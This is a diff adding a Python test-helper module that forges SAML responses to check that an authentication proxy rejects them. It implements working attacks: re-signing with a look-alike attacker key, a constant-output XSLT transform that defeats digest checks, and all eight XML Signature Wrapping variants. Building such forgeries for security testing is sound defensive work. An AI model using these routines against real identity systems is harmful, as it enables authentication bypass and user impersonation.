@@ -1,0 +1,275 @@
+"""Forging SAML responses for the security suites, with signxml + lxml (never pysaml2).
+
+The proxy verifies with pysaml2 (and ``xmlsec1``); the attacks are built with another
+library so that a pysaml2 bug cannot hide itself in both the forger and the verifier.
+A forgery starts from a genuine response of the GAR simulator (``SimulatedGar``), is
+edited with lxml, and is (re-)signed here with real keys: the GAR simulator's own key
+(trusted by the proxy's metadata) or a freshly generated attacker key.
+"""
+
+from __future__ import annotations
+
+import base64
+import copy
+import datetime as dt
+import hashlib
+from dataclasses import dataclass
+from functools import cache
+
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import padding, rsa
+from cryptography.x509.oid import NameOID
+from lxml import etree
+from signxml import XMLSigner, methods
+
+from gar_sim.idp import idp_key_paths
+from gar_sim.settings import SimSettings
+
+SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
+SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
+DS = "http://www.w3.org/2000/09/xmldsig#"
+NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}
+
+EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
+ENVELOPED = DS + "enveloped-signature"
+XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
+RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
+RSA_SHA1 = DS + "rsa-sha1"
+HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
+SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
+SHA1 = DS + "sha1"
+
+_SIGNXML_NAMES = {RSA_SHA256: "rsa-sha256", RSA_SHA1: "rsa-sha1", HMAC_SHA256: "hmac-sha256",
+                  SHA256: "sha256", SHA1: "sha1"}
+
+
+@dataclass(frozen=True)
+class KeyPair:
+    """A private key and its certificate, both PEM."""
+
+    key_pem: bytes
+    cert_pem: bytes
+
+    @property
+    def cert_b64(self) -> str:
+        der = x509.load_pem_x509_certificate(self.cert_pem).public_bytes(
+            serialization.Encoding.DER)
+        return base64.b64encode(der).decode("ascii")
+
+
+def gar_keys(settings: SimSettings) -> KeyPair:
+    """The GAR simulator's signing key pair: the one the proxy's metadata trusts."""
+    key_path, cert_path = idp_key_paths(settings)
+    return KeyPair(key_path.read_bytes(), cert_path.read_bytes())
+
+
+@cache
+def attacker_keys() -> KeyPair:
+    """A fresh key pair no metadata knows, with a certificate named like the GAR's."""
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Simulateur GAR (developpement)")])
+    now = dt.datetime.now(dt.UTC)
+    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
+            .public_key(key.public_key()).serial_number(x509.random_serial_number())
+            .not_valid_before(now - dt.timedelta(days=1))
+            .not_valid_after(now + dt.timedelta(days=30))
+            .sign(key, hashes.SHA256()))
+    return KeyPair(
+        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                          serialization.NoEncryption()),
+        cert.public_bytes(serialization.Encoding.PEM),
+    )
+
+
+# --------------------------------------------------------------------------- (de)coding
+
+_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False)
+
+
+def decode(saml_response_b64: str) -> etree._Element:
+    """The response's root element (``samlp:Response``)."""
+    return etree.fromstring(base64.b64decode(saml_response_b64), _PARSER)
+
+
+def encode(root: etree._Element | bytes, prolog: bytes = b"") -> str:
+    """Base64 of the serialized XML (``prolog``: a DOCTYPE or anything to put before it)."""
+    xml = root if isinstance(root, bytes) else etree.tostring(root)
+    return base64.b64encode(prolog + xml).decode("ascii")
+
+
+def assertion_of(response: etree._Element) -> etree._Element:
+    return response.find("saml:Assertion", NS)
+
+
+def signature_of(element: etree._Element) -> etree._Element | None:
+    """The enveloped signature of ``element`` (its direct ``ds:Signature`` child)."""
+    return element.find("ds:Signature", NS)
+
+
+def strip_signature(element: etree._Element) -> etree._Element:
+    signature = signature_of(element)
+    if signature is not None:
+        element.remove(signature)
+    return element
+
+
+def attribute_values(assertion: etree._Element, name: str) -> list[etree._Element]:
+    return assertion.findall(f"saml:AttributeStatement/saml:Attribute[@Name='{name}']/"
+                             "saml:AttributeValue", NS)
+
+
+def set_attribute(assertion: etree._Element, name: str, value: str) -> None:
+    for element in attribute_values(assertion, name):
+        element.text = value
+
+
+def stamp(seconds_from_now: int) -> str:
+    moment = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=seconds_from_now)
+    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+# --------------------------------------------------------------------------- signing
+
+
+class _Signer(XMLSigner):
+    """signxml's signer; SHA-1 allowed on demand (to prove the *proxy* refuses it)."""
+
+    def __init__(self, *, allow_sha1: bool = False, **kwargs) -> None:
+        self._allow_sha1 = allow_sha1
+        super().__init__(**kwargs)
+
+    def check_deprecated_methods(self):
+        if not self._allow_sha1:
+            super().check_deprecated_methods()
+
+
+def sign(element: etree._Element, keys: KeyPair | None, *,
+         signature_method: str = RSA_SHA256, digest_method: str = SHA256,
+         hmac_key: bytes | None = None, with_cert: bool = True) -> etree._Element:
+    """Sign ``element`` (a Response or an Assertion) in place with an enveloped signature.
+
+    The signature goes where SAML puts it (right after ``Issuer``), over the element's
+    ``ID``, exclusive canonicalization, like the GAR's. Any previous enveloped signature
+    of the element is removed first. ``hmac_key`` signs with HMAC (no KeyInfo).
+    """
+    strip_signature(element)
+    element_id = element.get("ID")
+    placeholder = etree.Element(etree.QName(DS, "Signature"), Id="placeholder", nsmap={"ds": DS})
+    issuer = element.find("saml:Issuer", NS)
+    issuer.addnext(placeholder)
+    standalone = copy.deepcopy(element)
+    signer = _Signer(method=methods.enveloped,
+                     signature_algorithm=_SIGNXML_NAMES[signature_method],
+                     digest_algorithm=_SIGNXML_NAMES[digest_method],
+                     c14n_algorithm=EXC_C14N,
+                     allow_sha1=SHA1 in (signature_method, digest_method)
+                     or signature_method == RSA_SHA1)
+    signer.namespaces = {"ds": DS}
+    if hmac_key is not None:
+        signed = signer.sign(standalone, key=hmac_key, reference_uri=element_id,
+                             id_attribute="ID")
+    else:
+        signed = signer.sign(standalone, key=keys.key_pem,
+                             cert=keys.cert_pem if with_cert else None,
+                             reference_uri=element_id, id_attribute="ID")
+    parent = element.getparent()
+    if parent is not None:
+        parent.replace(element, signed)
+    return signed
+
+
+def resign_signed_info(signature: etree._Element, keys: KeyPair) -> None:
+    """Recompute ``SignatureValue`` (RSA-SHA256) over the current, edited ``SignedInfo``."""
+    signed_info = signature.find("ds:SignedInfo", NS)
+    canonical = etree.tostring(signed_info, method="c14n", exclusive=True)
+    key = serialization.load_pem_private_key(keys.key_pem, password=None)
+    value = key.sign(canonical, padding.PKCS1v15(), hashes.SHA256())
+    signature.find("ds:SignatureValue", NS).text = base64.b64encode(value).decode("ascii")
+
+
+def add_constant_xslt_transform(signature: etree._Element, keys: KeyPair,
+                                output: bytes = b"constant") -> None:
+    """Replace the reference's transforms with an XSLT whose output is a constant.
+
+    The digest then matches ``output`` whatever the signed element says: if a verifier
+    ran the transform, any content would pass. SignedInfo is re-signed with ``keys``.
+    """
+    transforms = signature.find("ds:SignedInfo/ds:Reference/ds:Transforms", NS)
+    for child in list(transforms):
+        transforms.remove(child)
+    transform = etree.SubElement(transforms, etree.QName(DS, "Transform"),
+                                 Algorithm=XSLT_TRANSFORM)
+    stylesheet = etree.fromstring(
+        b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
+        b'<xsl:output method="text"/><xsl:template match="/">'
+        + output + b"</xsl:template></xsl:stylesheet>")
+    transform.append(stylesheet)
+    digest = signature.find("ds:SignedInfo/ds:Reference/ds:DigestValue", NS)
+    digest.text = base64.b64encode(hashlib.sha256(output).digest()).decode("ascii")
+    resign_signed_info(signature, keys)
+
+
+# --------------------------------------------------------------------------- XML signature wrapping
+
+
+def _evil(element: etree._Element, edit) -> etree._Element:
+    """An unsigned copy of ``element`` with a new ID and the attacker's ``edit`` applied."""
+    evil = strip_signature(copy.deepcopy(element))
+    evil.set("ID", "_evil_" + element.get("ID"))
+    edit(evil if evil.tag == etree.QName(SAML, "Assertion") else assertion_of(evil))
+    return evil
+
+
+def wrap(response: etree._Element, variant: str, edit) -> etree._Element:
+    """Apply SAML Raider's XSW ``variant`` (1 to 8); ``edit(assertion)`` makes it evil.
+
+    XSW1-2 wrap a signed Response, XSW3-8 a signed Assertion. In every variant the
+    genuine signature is kept untouched, and the evil content is where the catalogue
+    puts it (where a careless SP reads the identity).
+    """
+    assertion = assertion_of(response)
+    if variant in ("XSW1", "XSW2"):
+        genuine = copy.deepcopy(response)
+        signature = signature_of(genuine)
+        original = strip_signature(copy.deepcopy(genuine))
+        evil_root = _evil(genuine, edit)  # the evil Response is the document root
+        evil_signature = copy.deepcopy(signature)
+        evil_root.find("saml:Issuer", NS).addnext(evil_signature)
+        if variant == "XSW1":  # the original Response inside the signature
+            evil_signature.append(original)
+        else:  # XSW2: the original Response as a sibling before the signature (detached)
+            evil_signature.addprevious(original)
+        return evil_root
+    signature = signature_of(assertion)
+    if variant == "XSW3":  # evil assertion first, the signed one after it
+        assertion.addprevious(_evil(assertion, edit))
+    elif variant == "XSW4":  # the signed assertion moved inside the evil one
+        evil = _evil(assertion, edit)
+        assertion.addprevious(evil)
+        evil.append(assertion)
+    elif variant == "XSW5":  # evil assertion carries the signature; original copy at the end
+        original = strip_signature(copy.deepcopy(assertion))
+        assertion.set("ID", "_evil_" + assertion.get("ID"))
+        edit(assertion)
+        response.append(original)
+    elif variant == "XSW6":  # evil assertion carries the signature; original inside it
+        original = strip_signature(copy.deepcopy(assertion))
+        assertion.set("ID", "_evil_" + assertion.get("ID"))
+        edit(assertion)
+        signature.append(original)
+    elif variant == "XSW7":  # evil assertion; the signed original in an Extensions element
+        extensions = etree.Element(etree.QName(SAMLP, "Extensions"))
+        response.find("samlp:Status", NS).addprevious(extensions)
+        evil = _evil(assertion, edit)
+        assertion.addprevious(evil)
+        extensions.append(assertion)
+    elif variant == "XSW8":  # evil assertion carries the signature; original in a ds:Object
+        original = strip_signature(copy.deepcopy(assertion))
+        assertion.set("ID", "_evil_" + assertion.get("ID"))
+        edit(assertion)
+        obj = etree.SubElement(signature, etree.QName(DS, "Object"))
+        obj.append(original)
+    else:
+        raise ValueError(variant)
+    return response
